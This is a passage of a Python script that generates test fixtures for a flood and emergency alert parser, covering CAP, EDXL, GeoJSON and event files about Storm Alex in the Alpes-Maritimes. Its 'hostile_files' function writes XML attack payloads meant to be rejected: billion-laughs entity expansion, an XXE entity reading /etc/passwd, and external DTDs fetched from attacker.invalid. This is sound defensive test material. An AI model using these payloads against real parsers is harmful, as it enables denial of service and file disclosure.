        Area("Saint-Martin-Vésubie", geocodes=(("INSEE", INSEE_SAINT_MARTIN_VESUBIE),)),
    )
    a2 = _exercise_alert(
        2,
        "Vigilance orange crues",
        "Crue de la Roya à Breil-sur-Roya",
        Area("Breil-sur-Roya", geocodes=(("INSEE", INSEE_BREIL_SUR_ROYA),)),
    )
    a3 = _exercise_alert(
        3,
        "Vigilance orange crues",
        "Crue de la Roya à Tende",
        Area("Tende", geocodes=(("INSEE", INSEE_TENDE),)),
    )
    a3_bytes = cap(a3).encode("utf-8")

    def xml_object(alert: Alert, description: str) -> str:
        return "\n".join(
            [
                "  <contentObject>",
                f"    <contentDescription>{esc(description)}</contentDescription>",
                "    <incidentID>EXERCICE-ORSEC-06-2020-09-24</incidentID>",
                "    <confidentiality>UNCLASSIFIED</confidentiality>",
                "    <xmlContent>",
                "      <embeddedXMLContent>",
                cap(alert, declaration=None, base=4).rstrip("\n"),
                "      </embeddedXMLContent>",
                "    </xmlContent>",
                "  </contentObject>",
            ]
        )

    lines = [
        DECL,
        f'<EDXLDistribution xmlns="{EDXL_DE}">',
        "  <distributionID>COD06-EXERCICE-20200924-0001</distributionID>",
        "  <senderID>cod06@alpes-maritimes.gouv.fr</senderID>",
        "  <dateTimeSent>2020-09-24T11:35:00+02:00</dateTimeSent>",
        "  <distributionStatus>Exercise</distributionStatus>",
        "  <distributionType>Report</distributionType>",
        "  <combinedConfidentiality>UNCLASSIFIED</combinedConfidentiality>",
        "  <language>fr-FR</language>",
        "  <targetArea>",
        "    <country>FR</country>",
        "    <subdivision>FR-06</subdivision>",
        "  </targetArea>",
        xml_object(a1, "EXERCICE - message 1 - Vésubie"),
        xml_object(a2, "EXERCICE - message 2 - Breil-sur-Roya"),
        "  <contentObject>",
        "    <contentDescription>EXERCICE - message 3 - Tende (CAP en base64)</contentDescription>",
        "    <incidentID>EXERCICE-ORSEC-06-2020-09-24</incidentID>",
        "    <nonXMLContent>",
        "      <mimeType>application/cap+xml</mimeType>",
        f"      <size>{len(a3_bytes)}</size>",
        f"      <contentData>\n{_b64(a3_bytes, 76)}\n      </contentData>",
        "    </nonXMLContent>",
        "  </contentObject>",
        "</EDXLDistribution>",
    ]
    return "\n".join(lines) + "\n"


# Communes for the large envelope: (name, lat, lon, INSEE code or None, valley).
COMMUNES = [
    ("Saint-Martin-Vésubie", 44.0686, 7.2561, INSEE_SAINT_MARTIN_VESUBIE, "Vésubie"),
    ("Roquebillière", 44.0131, 7.3056, None, "Vésubie"),
    ("Lantosque", 43.9742, 7.3114, None, "Vésubie"),
    ("La Bollène-Vésubie", 44.0000, 7.3333, None, "Vésubie"),
    ("Venanson", 44.0539, 7.2550, None, "Vésubie"),
    ("Utelle", 43.9172, 7.2450, None, "Vésubie"),
    ("Breil-sur-Roya", 43.9375, 7.5142, INSEE_BREIL_SUR_ROYA, "Roya"),
    ("Tende", 44.0875, 7.5939, INSEE_TENDE, "Roya"),
    ("La Brigue", 44.0628, 7.6167, None, "Roya"),
    ("Fontan", 44.0006, 7.5544, None, "Roya"),
    ("Saorge", 43.9872, 7.5525, None, "Roya"),
    ("Sospel", 43.8778, 7.4486, None, "Bévéra"),
    ("Saint-Sauveur-sur-Tinée", 44.0853, 7.1061, None, "Tinée"),
    ("Isola", 44.1869, 7.0494, None, "Tinée"),
    ("Saint-Étienne-de-Tinée", 44.2564, 6.9247, None, "Tinée"),
    ("Valdeblore", 44.0700, 7.1667, None, "Tinée"),
    ("Levens", 43.8600, 7.2247, None, "Var"),
    ("Carros", 43.7886, 7.1867, None, "Var"),
    ("Nice", 43.7031, 7.2661, INSEE_NICE, "Paillon"),
    ("Menton", 43.7764, 7.5047, None, "littoral"),
]
KINDS = [
    ("Inondation", "Met", "Crue torrentielle", "Débordement du cours d'eau, habitations isolées."),
    ("Mouvement de terrain", "Geo", "Glissement de terrain", "Route coupée par une coulée."),
    ("Rupture de réseau", "Infra", "Coupure d'électricité et de téléphone", "Poteaux à terre."),
    ("Pont emporté", "Infra", "Ouvrage d'art détruit", "Le village n'est plus accessible."),
    ("Personnes isolées", "Rescue", "Habitants isolés", "Hélitreuillage envisagé."),
]


def _ascii(text: str) -> str:
    """The text without its accents: Vésubie -> Vesubie."""
    return unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")


def large_alert(n: int) -> Alert:
    name, lat, lon, insee, valley = COMMUNES[n % len(COMMUNES)]
    event, category, short, detail = KINDS[n % len(KINDS)]
    polygon = ring(blob(lat, lon, 1.2 + 0.15 * (n % 7), 39, phase=n * 0.7))
    geocodes: tuple[tuple[str, str], ...] = (("NUTS3", "FRL03"),)
    if insee:
        geocodes = (*geocodes, ("INSEE", insee))
    hour = 14 + n // 10
    sent = f"2020-10-02T{hour:02d}:{(n * 7) % 60:02d}:00+02:00"
    description = (
        f"Tempête Alex - {short} à {name} (vallée : {valley}). {detail} "
        "Cumuls de pluie exceptionnels sur l'arrière-pays niçois depuis la fin de matinée, "
        "dépassant localement 400 mm en moins de 12 heures. Les cours d'eau de la Vésubie, "
        "de la Roya et de la Tinée connaissent des crues d'une ampleur jamais observée, avec "
        "d'importants transports solides (blocs, troncs, véhicules) qui obstruent les "
        "ouvrages. Plusieurs routes départementales et métropolitaines sont coupées ; des "
        "réseaux (électricité, téléphonie, eau potable) sont interrompus. Les moyens du SDIS "
        "06 sont engagés en priorité sur les sauvetages ; des renforts zonaux et nationaux "
        "sont attendus. Le bilan humain et matériel reste provisoire et sera précisé par les "
        f"prochains points de situation. Message numéro {n + 1} de la série."
    )
    fr = Info(
        categories=(category,),
        event=event,
        response_types=("Avoid", "Monitor"),
        urgency="Immediate",
        severity="Extreme" if n % 3 == 0 else "Severe",
        certainty="Observed",
        onset=sent,
        expires="2020-10-03T18:00:00+02:00",
        sender_name="Préfecture des Alpes-Maritimes - COD",
        headline=f"{event} - {name}",
        description=description,
        instruction=(
            "Restez à l'abri, ne vous approchez pas des cours d'eau, ne vous engagez pas sur "
            "les routes coupées. Signalez les personnes isolées en composant le 112 et "
            "suivez les consignes des autorités et du maire de votre commune."
        ),
        web="https://www.alpes-maritimes.gouv.fr",
        contact="COD 06",
        parameters=(("commune", name), ("vallee", valley), ("serie", f"ALEX-{n + 1:03d}")),
        areas=(Area(f"{name} (Alpes-Maritimes)", polygons=(polygon,), geocodes=geocodes),),
    )
    en = replace(
        fr,
        language="en-GB",
        headline=f"{event} ({name})",
        description=(
            f"Storm Alex - {short} in {name}. Exceptional rainfall over the hinterland of "
            "Nice; roads cut, networks interrupted, rescue operations under way."
        ),
        instruction="Stay indoors, keep away from rivers, follow the instructions of the "
        "authorities.",
        areas=(Area(f"{name} (Alpes-Maritimes)", geocodes=geocodes),),
    )
    return Alert(
        identifier=f"PREF06-COD-ALEX-20201002-{n + 1:04d}",
        sender=PREF_SENDER,
        sent=sent,
        incidents=f"ALEX-06-{_ascii(valley).upper()}",
        infos=(fr, en),
    )


def edxl_large() -> str:
    lines = [
        DECL,
        f'<EDXLDistribution xmlns="{EDXL_DE}">',
        "  <distributionID>COD06-ALEX-20201002-SYNTHESE-0001</distributionID>",
        "  <senderID>cod06@alpes-maritimes.gouv.fr</senderID>",
        "  <dateTimeSent>2020-10-02T23:00:00+02:00</dateTimeSent>",
        "  <distributionStatus>Actual</distributionStatus>",
        "  <distributionType>Report</distributionType>",
        "  <combinedConfidentiality>UNCLASSIFIED</combinedConfidentiality>",
        "  <language>fr-FR</language>",
        "  <targetArea>",
        "    <country>FR</country>",
        "    <subdivision>FR-06</subdivision>",
        "  </targetArea>",
    ]
    for n in range(60):
        lines += [
            "  <contentObject>",
            f"    <contentDescription>Tempête Alex - message {n + 1}/60</contentDescription>",
            "    <incidentID>ALEX-06-2020-10-02</incidentID>",
            "    <xmlContent>",
            "      <embeddedXMLContent>",
            cap(large_alert(n), declaration=None, base=4).rstrip("\n"),
            "      </embeddedXMLContent>",
            "    </xmlContent>",
            "  </contentObject>",
        ]
    lines.append("</EDXLDistribution>")
    return "\n".join(lines) + "\n"


def duplicate_of_vigicrues() -> str:
    """File 2 again, as another feed relays it: `cap:` prefix, tabs, single quotes, CRLF."""
    text = cap(
        vigicrues_rouge(),
        prefix="cap",
        indent="\t",
        quote="'",
        declaration="<?xml version='1.0' encoding='utf-8' standalone='yes'?>",
    )
    return text.replace("\n", "\r\n")


def geojson_interventions() -> str:
    # GeoJSON is [lon, lat]; exterior rings counter-clockwise (RFC 7946).
    def lonlat(points: list[tuple[float, float]]) -> list[list[float]]:
        ring_ = [[lon, lat] for lat, lon in points]
        return [*ring_, ring_[0]]

    glissement = [(44.0500, 7.2480), (44.0500, 7.2620), (44.0600, 7.2620), (44.0600, 7.2480)]
    breil = [(43.9300, 7.5050), (43.9300, 7.5230), (43.9450, 7.5230), (43.9450, 7.5050)]
    tende = [(44.0800, 7.5850), (44.0800, 7.6020), (44.0950, 7.6020), (44.0950, 7.5850)]
    features = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [7.2561, 44.0686]},
            "properties": {
                "id": "sdis06-2020-4471",
                "title": "Habitations emportées par la Vésubie à Saint-Martin-Vésubie",
                "kind": "inondation",
                "severity": "extreme",
                "description": (
                    "Plusieurs maisons emportées quartier du Boréon ; recherches en cours."
                ),
                "occurred_at": "2020-10-02T16:40:00+02:00",
                "status": "Actual",
                "insee": [INSEE_SAINT_MARTIN_VESUBIE],
                "state": "open",
            },
        },
        {
            "type": "Feature",
            "geometry": {"type": "Polygon", "coordinates": [lonlat(glissement)]},
            "properties": {
                "id": "sdis06-2020-4488",
                "title": "Glissement de terrain RM 2565 secteur Venanson",
                "kind": "mouvement_de_terrain",
                "severity": "severe",
                "description": "Coulée de boue et blocs sur la chaussée ; route fermée.",
                "occurred_at": "2020-10-02T17:30:00+02:00",
                "status": "Actual",
                "insee": [INSEE_SAINT_MARTIN_VESUBIE],
                "state": "closed",
            },
        },
        {
            "type": "Feature",
            "geometry": {
                "type": "MultiPolygon",
                "coordinates": [[lonlat(breil)], [lonlat(tende)]],
            },
            "properties": {
                "id": "sdis06-2020-4502",
                "title": "Crue de la Roya à Breil-sur-Roya et à Tende",
                "kind": "inondation",
                "severity": "extreme",
                "description": "Routes coupées, ponts endommagés, quartiers bas inondés.",
                "occurred_at": "2020-10-02T19:10:00+02:00",
                "status": "Actual",
                "insee": [INSEE_BREIL_SUR_ROYA, INSEE_TENDE],
                "state": "open",
            },
        },
    ]
    return json.dumps(
        {"type": "FeatureCollection", "features": features}, ensure_ascii=False, indent=2
    )


def event_incident_reported() -> str:
    event = {
        "type": "incident.reported",
        "schema_version": 1,
        "event_id": "3f1c2a9e-6b4d-4c1e-9a7f-2d5e8b0c4a61",
        "crisis_id": "veille",
        "occurred_at": "2020-10-02T16:40:00+02:00",
        "source": "sdis06",
        "actor": "feed:sdis06",
        "status": "Actual",
        "incident_id": "sdis06-2020-4471",
        "kind": "inondation",
        "severity": "severe",
        "title": "Crue de la Vésubie à Saint-Martin-Vésubie",
        "description": "Habitations emportées quartier du Boréon ; recherches en cours.",
        "location": {
            "description": "Saint-Martin-Vésubie, quartier du Boréon, bord de la Vésubie",
            "point": {"lat": 44.06, "lon": 7.25},
            "insee_codes": [INSEE_SAINT_MARTIN_VESUBIE],
        },
        "sources": ["SDIS 06"],
    }
    return json.dumps(event, ensure_ascii=False, indent=2)


# --- Tolerated quirks --------------------------------------------------------------------------


def _quirk(identifier: str, **info_changes: object) -> Alert:
    """An ordinary SDIS 06 alert (CAP 1.2) to bend one rule in."""
    info = Info(
        categories=("Met",),
        event="Inondation",
        response_types=("Avoid",),
        urgency="Immediate",
        severity="Severe",
        certainty="Observed",
        sender_name="SDIS 06 - CTA-CODIS",
        headline="Inondation - Nice, basse vallée du Var",
        description="Inondation de caves et de voiries, quartier de la plaine du Var.",
        instruction="Ne vous engagez pas sur les voies inondées.",
        contact="CODIS 06",
        areas=(Area("Nice", polygons=(ring(NICE_RING),), geocodes=(("INSEE", INSEE_NICE),)),),
    )
    return Alert(
        identifier=identifier,
        sender=SDIS_SENDER,
        sent="2020-10-02T18:00:00+02:00",
        infos=(replace(info, **info_changes),),  # type: ignore[arg-type]
    )


LATIN1_TEXT = (
    "Crue très forte de la Roya à Breil-sur-Roya : reçu du maire à 19h, évacuation des "
    "rez-de-chaussée du quartier de la gare, accès à la mairie coupé, ça monte encore."
)


def _latin1_alert(identifier: str) -> Alert:
    return _quirk(
        identifier,
        headline="Crue de la Roya à Breil-sur-Roya : évacuation en cours",
        description=LATIN1_TEXT,
        instruction="Évacuez les rez-de-chaussée ; ne vous approchez pas du lit de la rivière.",
        areas=(Area("Breil-sur-Roya", geocodes=(("INSEE", INSEE_BREIL_SUR_ROYA),)),),
    )


def quirk_files() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    files["quirk_mixed_namespace.xml"] = cap(
        _quirk("SDIS06-QUIRK-0001-MIXED-NS"), info_attrs=f' xmlns="{CAP11}"'
    ).encode()
    latin1 = cap(
        _latin1_alert("SDIS06-QUIRK-0002-LATIN1-DECL"),
        declaration='<?xml version="1.0" encoding="ISO-8859-1"?>',
    )
    files["quirk_latin1_declared.xml"] = latin1.encode("iso-8859-1")
    files["quirk_latin1_undeclared.xml"] = cap(
        _latin1_alert("SDIS06-QUIRK-0003-LATIN1-NODECL"), declaration=None
    ).encode("iso-8859-1")
    files["quirk_bom.xml"] = b"\xef\xbb\xbf" + cap(_quirk("SDIS06-QUIRK-0004-BOM")).encode()
    files["quirk_no_declaration.xml"] = cap(
        _quirk("SDIS06-QUIRK-0005-NO-DECL"), declaration=None
    ).encode()
    empty = cap(
        _quirk(
            "SDIS06-QUIRK-0006-EMPTY-POLYGON",
            areas=(
                Area(
                    "Nice",
                    polygons=("@EMPTY1@", "@EMPTY2@"),
                    geocodes=(("INSEE", INSEE_NICE),),
                ),
            ),
        )
    )
    empty = empty.replace("<polygon>@EMPTY1@</polygon>", "<polygon/>")
    empty = empty.replace("<polygon>@EMPTY2@</polygon>", "<polygon></polygon>")
    files["quirk_empty_polygon.xml"] = empty.encode()
    plus = [(43.70, 7.25), (43.71, 7.26), (43.72, 7.25), (43.71, 7.24)]
    files["quirk_plus_signs.xml"] = cap(
        _quirk(
            "SDIS06-QUIRK-0007-PLUS-SIGNS",
            areas=(Area("Nice", polygons=(ring(plus, sign="+"),)),),
        )
    ).encode()
    files["quirk_lon_lat.xml"] = cap(
        _quirk(
            "SDIS06-QUIRK-0008-LON-LAT",
            areas=(Area("Nice", polygons=("7.25,43.70 7.27,43.70 7.27,43.72 7.25,43.70",)),),
        )
    ).encode()
    enums = cap(
        _quirk("SDIS06-QUIRK-0009-EMPTY-ENUMS", urgency="@U@", certainty="@C@", severity="@S@")
    )
    enums = enums.replace("<urgency>@U@</urgency>", "<urgency></urgency>")
    enums = enums.replace("<certainty>@C@</certainty>", "<certainty/>")
    enums = enums.replace("<severity>@S@</severity>", "<severity> </severity>")
    files["quirk_empty_enums.xml"] = enums.encode()
    refs = cap(replace(_quirk("SDIS06-QUIRK-0010-EMPTY-REFS"), references="@R@"))
    files["quirk_empty_references.xml"] = refs.replace(
        "<references>@R@</references>", "<references/>"
    ).encode()
    files["quirk_escaped_html.xml"] = cap(
        _quirk(
            "SDIS06-QUIRK-0011-ESCAPED-HTML",
            headline="Crue majeure de la Vésubie",
            areas=(
                Area(
                    "Saint-Martin-Vésubie",
                    polygons=(ring(VESUBIE_AMONT),),
                    geocodes=(("INSEE", INSEE_SAINT_MARTIN_VESUBIE),),
                ),
            ),
            description=Raw(
                "&lt;p&gt;Crue &lt;b&gt;majeure&lt;/b&gt;&amp;nbsp;de la Vésubie : "
                "&lt;i&gt;plus hautes eaux connues dépassées&lt;/i&gt;.&lt;/p&gt;"
                "&lt;p&gt;Point de situation à 20h&amp;nbsp;00.&lt;/p&gt;"
            ),
            instruction=Raw(
                "<![CDATA[Consignes :<br/><ul><li>Montez dans les étages.</li>"
                "<li>Ne prenez pas votre véhicule.</li>"
                "<li>Appelez le 112 en cas de danger.</li></ul>]]>"
            ),
        )
    ).encode()
    wrapped = [
        cap(_quirk(f"SDIS06-QUIRK-0012-WRAPPED-{i}"), declaration=None, base=1).rstrip("\n")
        for i in (1, 2, 3)
    ]
    files["quirk_wrapper_alerts.xml"] = (
        "\n".join([DECL, "<alerts>", *wrapped, "</alerts>"]) + "\n"
    ).encode()
    return files


# --- Inputs to reject --------------------------------------------------------------------------


def _marked(identifier: str, description: str) -> str:
    """An ordinary alert whose description is replaced by `description`, written as is."""
    return cap(_quirk(identifier, description=Raw(description)))


def hostile_files() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    body = _marked("SDIS06-HOSTILE-0001-LAUGHS", "&lol9;").split("\n", 1)[1]
    laughs = ["<!DOCTYPE alert [", '  <!ENTITY lol "lol">']
    previous = "lol"
    for i in range(1, 10):
        laughs.append(f'  <!ENTITY lol{i} "{("&" + previous + ";") * 10}">')
        previous = f"lol{i}"
    laughs.append("]>")
    files["hostile_billion_laughs.xml"] = "\n".join([DECL, *laughs, body]).encode()

    body = _marked("SDIS06-HOSTILE-0002-XXE", "&xxe;").split("\n", 1)[1]
    doctype = '<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    files["hostile_external_entity.xml"] = "\n".join([DECL, doctype, body]).encode()

    body = cap(_quirk("SDIS06-HOSTILE-0003-EXT-DTD")).split("\n", 1)[1]
    doctype = '<!DOCTYPE alert SYSTEM "http://attacker.invalid/cap.dtd">'
    files["hostile_external_dtd.xml"] = "\n".join([DECL, doctype, body]).encode()

    body = _marked("SDIS06-HOSTILE-0004-PARAM", "Crue &exfil;").split("\n", 1)[1]
    doctype = (
        "<!DOCTYPE alert [\n"
        '  <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd">\n'
        "  %remote;\n"
        "]>"
    )
    files["hostile_parameter_entity.xml"] = "\n".join([DECL, doctype, body]).encode()
    return files


def bad_files() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    base = _quirk("SDIS06-BAD-0001-WRONG-NS")
    files["bad_wrong_namespace.xml"] = cap(base, ns="urn:example:not-cap").encode()
    files["bad_missing_identifier.xml"] = cap(replace(base, identifier=None)).encode()
    files["bad_missing_sent.xml"] = cap(
        replace(base, identifier="SDIS06-BAD-0003-NO-SENT", sent=None)
    ).encode()
    files["bad_invalid_sent.xml"] = cap(
        replace(base, identifier="SDIS06-BAD-0004-BAD-SENT", sent="02/10/2020 14h")
    ).encode()
    files["bad_info_without_event.xml"] = cap(
        _quirk("SDIS06-BAD-0005-NO-EVENT", event=None)
    ).encode()
    files["bad_no_area.xml"] = cap(_quirk("SDIS06-BAD-0006-NO-AREA", areas=())).encode()
    text = cap(_quirk("SDIS06-BAD-0007-BAD-BYTES", description="Crue @BYTES@ de la Vésubie."))
    before, after = text.split("@BYTES@")
    files["bad_declared_utf8_invalid_bytes.xml"] = (
        before.encode() + b"\xff\xfe\xe9" + after.encode()
    )
    text = cap(_quirk("SDIS06-BAD-0008-MALFORMED"))
    files["bad_malformed.xml"] = text.replace("  </info>\n", "", 1).encode()

    point = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [200, 95]},
        "properties": {
            "id": "sdis06-2020-9001",
            "title": "Point hors du globe",
            "kind": "autre",
            "severity": "minor",
            "description": "Coordonnées impossibles : longitude 200, latitude 95.",
            "occurred_at": "2020-10-02T20:00:00+02:00",
            "status": "Actual",
            "insee": [INSEE_NICE],
            "state": "open",
        },
    }
    files["bad_geojson_coordinates.json"] = json.dumps(
        {"type": "FeatureCollection", "features": [point]}, ensure_ascii=False, indent=2
    ).encode()
    nowhere = {
        "type": "Feature",
        "geometry": None,
        "properties": {
            "id": "sdis06-2020-9002",
            "title": "Intervention sans localisation",
            "kind": "autre",
            "severity": "moderate",
            "description": "Signalement reçu sans position ni commune.",
            "occurred_at": "2020-10-02T20:05:00+02:00",
            "status": "Actual",
            "state": "open",
        },
    }
    files["bad_geojson_no_geometry.json"] = json.dumps(
        {"type": "FeatureCollection", "features": [nowhere]}, ensure_ascii=False, indent=2
    ).encode()
    return files


# --- Main --------------------------------------------------------------------------------------


def good_files() -> dict[str, bytes]:
    files: dict[str, bytes] = {
        "cap12_meteofrance_orange_pluie.xml": cap(meteofrance_orange(), prefix="cap").encode(),
        "cap12_vigicrues_rouge_vesubie.xml": cap(vigicrues_rouge()).encode(),
        "cap12_vigicrues_update.xml": cap(vigicrues_update()).encode(),
        "cap12_vigicrues_cancel.xml": cap(vigicrues_cancel()).encode(),
        "cap11_sdis_circle.xml": cap(sdis_circle(), ns=CAP11).encode(),
        "cap10_prefecture.xml": cap(prefecture_cap10(), ns=CAP10).encode(),
        "cap12_exercise.xml": cap(exercise()).encode(),
        "cap12_test.xml": cap(test_message()).encode(),
        "cap12_system.xml": cap(system_message()).encode(),
        "cap12_signed.xml": cap(signed(), tail=signature_xml()).encode(),
        "cap12_resources.xml": cap(resources()).encode(),
        "atom_meteoalarm.xml": atom_feed().encode(),
    }
    files["rss_vigicrues.xml"] = rss_feed(len(files["cap10_prefecture.xml"])).encode()
    files["edxl_de_exercise.xml"] = edxl_exercise().encode()
    files["edxl_de_large.xml"] = edxl_large().encode()
    files["cap12_duplicate_of_vigicrues.xml"] = duplicate_of_vigicrues().encode()
    files["geojson_sdis_interventions.json"] = (geojson_interventions() + "\n").encode()
    files["event_incident_reported.json"] = (event_incident_reported() + "\n").encode()
    return files


def main() -> None:
    everything = {**good_files(), **quirk_files(), **hostile_files(), **bad_files()}
    for name, data in everything.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
